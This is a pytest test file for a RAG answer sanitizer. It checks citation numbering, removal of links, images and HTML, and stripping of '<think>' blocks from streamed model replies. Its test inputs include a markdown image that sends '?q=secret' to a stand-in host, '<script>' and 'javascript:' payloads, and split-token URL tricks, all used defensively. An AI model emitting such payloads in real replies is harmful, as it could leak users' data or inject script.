"""Cleaning a model's words: citations are numbered, nothing that loads or links gets through."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from deepseek_ocr_rag.answering.cleaner import (
    REMOVED_LINK,
    AnswerCleaner,
    CitationMark,
    join_safely,
)
from deepseek_ocr_rag.answering.models.thoughts import without_thoughts


def clean(*pieces: str, sources: int = 3) -> str:
    """The text with its marks; sources 1 to ``sources`` exist."""
    cleaner = AnswerCleaner(sources)
    parts = [part for piece in pieces for part in cleaner.feed(piece)] + cleaner.finish()
    return "".join(
        part if isinstance(part, str) else f"{part.space}{''.join(f'[{n}]' for n in part.numbers)}"
        for part in parts
    )


CITED = [
    ("Ann keeps it [1].", "Ann keeps it [1]."),
    ("Ann keeps it [9].", "Ann keeps it."),
    ("Both [1, 3].", "Both [1][3]."),
    ("All [1-3].", "All [1][2][3]."),
    ("Twice [2][2].", "Twice [2][2]."),
    ("Named [Source 2].", "Named [2]."),
    ("Great![1]", "Great! [1]"),
    ("[1]: Ann", "[1] : Ann"),
    ("[2](http://evil.example)", "[2]"),
    ("A list [a, b] and a[i].", "A list [a, b] and a[i]."),
    ("An open [bracket", "An open [bracket"),
    ("[0]", ""),
    ("[1-21]", "[1][2][3]"),
    ("[1-22]", "[1-22]"),
    ("[4-1]", ""),
    ("[#1; 2 & 3]", "[1][2][3]"),
    ("[1,]", "[1]"),
    ("[-]", "[-]"),
    ("  Ann [passage 3]", "Ann [3]"),
    ("Ann \n [9] Bob", "Ann \n Bob"),
]


@pytest.mark.parametrize(("written", "shown"), CITED)
def test_source_numbers_become_citations(written: str, shown: str) -> None:
    assert clean(written) == shown


TAKEN_OUT = [
    ("See ![chart](http://evil.example/x.png?q=secret) here.", "See here."),
    ("![a][ref]\n\n[ref]: http://evil.example/x", f"[ref]\n\n[ref] : {REMOVED_LINK}"),
    ("Read [the site](https://evil.example).", "Read the site."),
    ("Read [here](/local/path).", "Read here."),
    ("At https://evil.example/a?b=c.", f"At {REMOVED_LINK}."),
    ("At <https://evil.example>.", f"At {REMOVED_LINK}."),
    ("At www.evil.example!", f"At {REMOVED_LINK}!"),
    ("At evil.example?q=secret or evil.example:80/x.", f"At {REMOVED_LINK} or {REMOVED_LINK}."),
    ("Is it in report.pdf? See line report.py:80.", "Is it in report.pdf? See line report.py:80."),
    ("At //evil.example/x.", f"At {REMOVED_LINK}."),
    ("javascript:alert", REMOVED_LINK),
    ('<img src="http://evil.example/x.png">Hi<br/>', "Hi"),
    ("<script>alert(1)</script>", "alert(1)"),
    ("a <b and c", "a < b and c"),
    ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
    ("[[x]](/y)", "[[x]] (/y)"),
    ("ht[tp](x):[/](y)[/](z)evil", "http: / /evil"),
    ("ww[w](x).evil.example", "ww w .evil.example"),
    ("<[img](x) src=y>", "< img src=y>"),
    ("half and/or half, 3/4, TCP/IP", "half and/or half, 3/4, TCP/IP"),
    ("At <1@evil.example>.", "At <1 @evil.example>."),
    ("At <a.b+c@evil.example>.", "At a.b+c@evil.example."),
    ("<1![x y](z)@evil.example>", "<1 @evil.example>"),
    ("<1[x](y)@evil.example>", "<1x @evil.example>"),
    ("< ![x](y)1@evil.example>", "<1 @evil.example>"),
    ("[<=@evil.example>]", "[<= @evil.example>]"),
    ("At <made-up+x.y:z>, <tel:1>.", f"At {REMOVED_LINK}, {REMOVED_LINK}."),
    ("xmpp:a@b", REMOVED_LINK),
    ("Write to me@b.example; x <5 and y<=7, 3@4", "Write to me@b.example; x <5 and y<=7, 3@4"),
    ("me@b.example", "me@b.example"),
    ("!", "!"),
    ("![open", "! [open"),
    ("a ! b", "a ! b"),
    ("a <= b <", "a <= b <"),
    ("a < b", "a < b"),
    ("[a](b", "[a] (b"),
    ("[a] (b)", "[a] (b)"),
    ("[a <b](c)", "a < b"),
    ("<i>a</i>b", "ab"),
    ("<a href=http://e.f>b</a>", "b"),
    ("<http://e.f x>", REMOVED_LINK),
    ("See evil.example/x, or Evil.example", f"See {REMOVED_LINK}, or Evil.example"),
    ("x" * 4500 + " y", "x" * 4500 + " y"),
]


@pytest.mark.parametrize(("written", "shown"), TAKEN_OUT)
def test_images_links_and_html_are_taken_out(written: str, shown: str) -> None:
    assert clean(written) == shown


WRITTEN = st.lists(
    st.sampled_from(
        ["[", "]", "(", ")", "!", "<", ">", " ", "\n", ":", "1", "2", "a", "img src=", "http://e.f/",
         "www.e.f", "[1]", "](", "![", "[a](b)", "x" * 320, ". ", "/", "@", "<1", "@e.f>", "<a:", "`", "\\"]
    ),
    max_size=30,
).map("".join)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(WRITTEN, st.lists(st.integers(0, 400), max_size=6))
def test_how_a_reply_is_cut_into_pieces_changes_nothing(text: str, cuts: list[int]) -> None:
    ends = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    pieces = [text[a:b] for a, b in zip(ends, ends[1:], strict=False)]  # noqa: RUF007
    assert clean(*pieces) == clean(text)


@settings(max_examples=300, deadline=None)
@given(WRITTEN)
def test_no_text_makes_an_image_a_link_or_a_tag(text: str) -> None:
    shown = clean(text)
    assert "](" not in shown
    assert "![" not in shown
    assert "://" not in shown
    assert "www." not in shown
    assert not re.search(r"<[A-Za-z/!?]", shown)
    assert not re.search(r"^\s*\[[^\]]*\]:", shown, re.MULTILINE)
    rendered = MarkdownIt("commonmark", {"html": True}).render(shown)
    assert not re.search(r"<(?:a|img)\b", rendered)


def test_a_long_reply_takes_linear_time() -> None:
    cleaner = AnswerCleaner(3)
    for _ in range(3000):
        cleaner.feed("[<!a [b](")
    cleaner.finish()


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("<think>Is it [1]?\nYes.</think>\n\nAnn.", "Ann."),
        ("\n<think></think>Ann.", "Ann."),
        ("<think>Without end", ""),
        ("Ann. <think>Aside</think>", "Ann. "),
        ("Ann. <think>Aside", "Ann. <think>Aside"),
        ("<think>One</think> <think>two</think>Ann.", "Ann."),
        ("[THINK]Is it?[/THINK]Ann.", "Ann."),
        ('{"text": "<think>x</think>"}', '{"text": "<think>x</think>"}'),
        ("<thi", "<thi"),
        ("<thin air", "<thin air"),
        ("", ""),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 100])
def test_a_models_thoughts_are_not_part_of_its_answer(written: str, said: str, size: int) -> None:
    pieces = [written[start : start + size] for start in range(0, len(written), size)]
    assert "".join(without_thoughts(pieces)) == said


@pytest.mark.parametrize("size", [1, 2, 5])
@pytest.mark.parametrize(("written", "shown"), [*CITED, *TAKEN_OUT])
def test_a_reply_in_pieces_is_the_same(written: str, shown: str, size: int) -> None:
    pieces = [written[start : start + size] for start in range(0, len(written), size)]
    assert clean(*pieces) == shown


def test_what_is_whole_is_shown_at_once() -> None:
    cleaner = AnswerCleaner(3)
    assert cleaner.feed("Ann keeps it [1") == ["Ann", " keeps", " it"]
    (mark, stop) = cleaner.feed("]. ")
    assert (mark, stop) == (CitationMark((1,), " "), ".")
    assert cleaner.feed("The") == []
    assert cleaner.finish() == [" The"]
    assert cleaner.finish() == []


def test_a_mark_names_each_source_once_in_its_order() -> None:
    cleaner = AnswerCleaner(3)
    assert cleaner.feed("[3, 1, 3, 0, 4] ") == [CitationMark((3, 1), "")]


@pytest.mark.parametrize(
    ("before", "text", "joined"),
    [
        ("a", "X", "X"),
        ("", "[", "["),
        ("!", "[", " ["),
        ("!", "", ""),
        ("]", "(", " ("),
        ("]", ":", " :"),
        ("]", "[", "["),
        ("<", "Z", " Z"),
        ("<", "9", "9"),
        (":", "/", " /"),
        ("w", "w", " w"),
        ("W", ".", " ."),
    ],
)
def test_two_pieces_that_would_form_a_link_are_kept_apart(
    before: str, text: str, joined: str
) -> None:
    assert join_safely(before, text) == joined
